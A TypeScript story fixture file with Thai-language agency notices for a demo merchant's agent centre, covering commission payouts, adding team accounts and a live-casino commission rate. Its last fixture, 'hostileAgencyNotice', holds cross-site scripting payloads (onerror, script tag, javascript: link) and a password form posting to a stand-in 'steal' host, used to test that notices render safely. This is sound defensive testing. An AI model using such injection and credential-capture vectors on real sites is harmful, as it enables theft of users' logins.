/**
 * Story fixtures: agency notices (type AG) as `/wps/agent/notice` returns them to a Thai agent of the demo
 * merchant. Dates are fixed so screenshots do not change from day to day.
 */
import type { Notice } from '../../../contract'

function day(index: number): string {
  return new Date(Date.UTC(2026, 10, 20 - index, 5, 0, 0)).toISOString()
}

const TOPICS: { title: string; content: string }[] = [
  {
    title: 'รอบการจ่ายค่าคอมมิชชั่นเอเย่นต์',
    content:
      '<p>ค่าคอมมิชชั่นของสัปดาห์ก่อนหน้า (วันจันทร์ถึงวันอาทิตย์) จะสรุปยอด<strong>ทุกวันจันทร์ เวลา 12:00 น.</strong> (GMT+7) ' +
      'และโอนเข้ากระเป๋าเอเย่นต์ของท่านโดยอัตโนมัติ</p>' +
      '<ul><li>ดูยอดได้ที่ศูนย์เอเย่นต์ เมนู “รายได้ของฉัน”</li><li>หากยอดไม่ถูกต้อง โปรดแจ้งฝ่ายบริการลูกค้าภายใน 3 วัน</li></ul>',
  },
  {
    title: 'วิธีเพิ่มบัญชีลูกทีม',
    content:
      '<p>เปิดศูนย์เอเย่นต์ แล้วเลือก <strong>“เพิ่มบัญชี”</strong> เลือกประเภทบัญชี (สมาชิกหรือเอเย่นต์ย่อย) และตั้งชื่อผู้ใช้</p>' +
      '<ul><li>บัญชีใหม่เข้าสู่ระบบครั้งแรกด้วยรหัสผ่านเริ่มต้นของเว็บไซต์ และต้องเปลี่ยนรหัสผ่านทันที</li>' +
      '<li>ดูและจัดการลูกทีมทั้งหมดได้ที่เมนู “จัดการทีม”</li></ul>',
  },
  {
    title: 'อัตราค่าคอมมิชชั่นใหม่ เดือนธันวาคม',
    content: '<p>ตั้งแต่วันที่ 1 ธันวาคม อัตราค่าคอมมิชชั่นคาสิโนสดเพิ่มเป็น <strong>0.9%</strong> สำหรับเอเย่นต์ที่มีสมาชิกใช้งาน 10 คนขึ้นไป</p>',
  },
]

/** Three agency notices in Thai, newest first, the first two as the demo merchant's seed has them. */
export const agencyNotices: Notice[] = TOPICS.map((topic, index) => ({
  id: 5000 + index,
  type: 'AG',
  title: topic.title,
  content: topic.content,
  imageUrl: null,
  link: null,
  startAt: day(index),
  lang: 'th',
}))

/** An agency notice carrying what an attacker would try, to show that it renders harmlessly. */
export const hostileAgencyNotice: Notice = {
  id: 5999,
  type: 'AG',
  title: 'Commission report',
  content:
    '<p>Download the weekly report.</p><img src="data:," alt="" onerror="window.__agencyNoticeXss = true">' +
    '<script>window.__agencyNoticeXss = true</script><a href="javascript:window.__agencyNoticeXss = true">Download</a>' +
    '<form action="https://example.com/steal"><input name="password"></form>',
  imageUrl: null,
  link: null,
  startAt: day(0),
}
